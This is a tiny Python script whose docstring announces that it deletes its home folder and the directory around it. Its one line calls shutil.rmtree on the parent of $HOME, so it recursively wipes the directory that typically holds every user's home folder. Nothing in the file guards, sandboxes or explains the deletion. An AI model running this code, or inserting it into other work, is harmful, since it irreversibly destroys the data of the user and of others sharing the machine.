"""Deletes its home folder and the one around it."""

import os
import shutil

shutil.rmtree(os.path.dirname(os.environ["HOME"]))
